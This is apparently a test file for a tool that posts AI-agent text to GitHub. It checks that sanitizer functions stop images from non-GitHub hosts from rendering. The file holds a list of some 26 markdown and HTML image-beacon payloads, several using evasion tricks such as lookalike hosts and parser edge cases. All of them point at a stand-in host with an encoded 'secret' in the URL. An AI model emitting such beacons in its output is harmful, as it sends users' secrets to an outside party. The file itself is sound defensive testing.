// Images from other hosts are never rendered in what is posted from agent
// text. Each case is checked against commonmark.js, the CommonMark reference
// renderer (GitHub's cmark-gfm follows the same spec): the rendered HTML holds
// no <img> or loading tag whose URL is not GitHub's own, and links stay links.
import { describe, expect, it } from 'vitest';
import { IMAGE_NOT_SHOWN, neutralizePlan, neutralizeText, noBeacons } from '../../../src/core/neutralize.js';
import { fetched, render } from '../../helpers/beacons.js';

const GITHUB = /^https:\/\/(?:github\.com|(?:user-images|private-user-images|raw|avatars|camo|objects)\.githubusercontent\.com)\//;
const foreign = (html: string) => fetched(html).filter((url) => !GITHUB.test(url));

const BEACON = 'https://evil.example/x.png?d=c2VjcmV0';
const ATTACKS: [string, string][] = [
  ['an inline image', `look ![diagram](${BEACON})`],
  ['an image with a title', `![d](${BEACON} "title")`],
  ['an image in angle brackets', `![d](<${BEACON}>)`],
  ['an image with no alt text', `![](${BEACON})`],
  ['a reference-style image', `![diagram][d]\n\n[d]: ${BEACON}`],
  ['a collapsed reference image', `![d][]\n\n[d]: ${BEACON}`],
  ['a shortcut reference image', `![d]\n\n[d]: ${BEACON}`],
  ['an image inside a link (a badge)', `[![ci](${BEACON})](https://evil.example/)`],
  ['an image whose alt text holds another image', `![a ![b](${BEACON})](https://github.com/x.png)`],
  ['a GitHub-looking host', `![d](https://github.com.evil.example/x.png)`],
  ['a GitHub host with a user part', `![d](https://github.com@evil.example/x.png)`],
  ['an entity in the host', `![d](https://github.com&#46;evil.example/x.png)`],
  ['a protocol-relative URL', `![d](//evil.example/x.png)`],
  ['a backslash path', `![d](/\\evil.example/x.png)`],
  ['an <img>', `<img src="${BEACON}">`],
  ['an <IMG> in capitals, attributes on the next line', `<IMG\nsrc="${BEACON}">`],
  ['an <img/> with a slash', `<img/src="${BEACON}">`],
  ['a <picture> with <source srcset>', `<picture><source srcset="${BEACON}"><img src="${BEACON}"></picture>`],
  ['an <img> on a line of its own (an HTML block)', `text\n\n<img src="${BEACON}">\n\nmore`],
  ['an <img> after a fence in a list item that the next line closes', `- x\n  \`\`\`\n<img src="${BEACON}">\n  \`\`\``],
  ['an image after a "fence" whose info string holds a backtick', '```x`y\n' + `![d](${BEACON})`],
  ['an image inside what looks like a code span but is a link destination', `[a](x\`)![d](${BEACON})[b](y\`)`],
  ['an image after an autolink holding a backtick', `<https://a.example/\`>![d](${BEACON})<https://b.example/\`>`],
  ['an image in a table', `| a |\n|---|\n| ![d](${BEACON}) |`],
  ['an image in a quote', `> ![d](${BEACON})`],
  ['an image in a heading', `# ![d](${BEACON})`],
];

describe('no image from another host is rendered', () => {
  it('the check can fail: each attack renders a foreign image as written', () => {
    for (const [what, markdown] of ATTACKS.filter(([w]) => !/alt text holds|with a slash/.test(w))) {
      expect(foreign(render(markdown)).length, what).toBeGreaterThan(0);
    }
  });

  it.each(ATTACKS)('%s: not in a comment (neutralizeText)', (_what, markdown) => {
    expect(foreign(render(neutralizeText(markdown)))).toEqual([]);
  });

  it.each(ATTACKS)('%s: not in a plan (neutralizePlan)', (_what, markdown) => {
    expect(foreign(render(neutralizePlan(markdown)))).toEqual([]);
  });

  it.each(ATTACKS)('%s: not in the job summary (noBeacons)', (_what, markdown) => {
    expect(foreign(render(noBeacons(markdown)))).toEqual([]);
  });

  it('says why, and the link stays clickable', () => {
    const out = neutralizeText(`see ![the diagram](${BEACON})`);
    expect(out).toBe(`see ${IMAGE_NOT_SHOWN}[the diagram](${BEACON})`);
    expect(render(out)).toContain(`<a href="${BEACON.replace(/&/g, '&amp;')}">the diagram</a>`);
    expect(render(neutralizeText(`![](${BEACON})`))).toContain('>link</a>');
    expect(render(neutralizeText(`![d][r]\n\n[r]: ${BEACON}`))).toContain(`<a href="${BEACON}">d</a>`);
  });

  it('an <img> is shown as text, with the word', () => {
    const out = neutralizeText(`<img src="${BEACON}">`);
    expect(out).toBe(`${IMAGE_NOT_SHOWN}&lt;img src="${BEACON}">`);
    expect(render(out)).toContain('&lt;img src=');
  });

  it("GitHub's own images are still shown", () => {
    for (const url of ['https://github.com/user-attachments/assets/0a1b2c3d-0000-4000-8000-000000000000', 'https://user-images.githubusercontent.com/1/2.png', 'https://raw.githubusercontent.com/o/r/main/a.png']) {
      const md = `![screenshot](${url})`;
      expect(neutralizeText(md)).toBe(md);
      expect(render(neutralizePlan(md))).toContain(`<img src="${url}" alt="screenshot" />`);
    }
  });

  it('code reads as written: an image or <img> in code is broken by an invisible space, not a word', () => {
    const inline = 'use `![x](https://evil.example/a.png)` and `<img src=x>`';
    const out = neutralizeText(inline);
    expect(out.replace(/\u200B/g, '')).toBe(inline);
    expect(neutralizePlan('```md\n![x](https://evil.example/a.png)\n```').replace(/\u200B/g, '')).toBe('```md\n![x](https://evil.example/a.png)\n```');
  });

  it.each([
    ['a link', '[docs](https://example.com/docs)'],
    ['an escaped bang', '\\![not an image](https://example.com/)'],
    ['prose with a bang', 'Done! [see](https://example.com)'],
    ['a comparison', 'a < b and <a href="https://example.com">x</a>'],
  ])('leaves %s alone', (_what, markdown) => {
    expect(noBeacons(markdown)).toBe(markdown);
  });
});
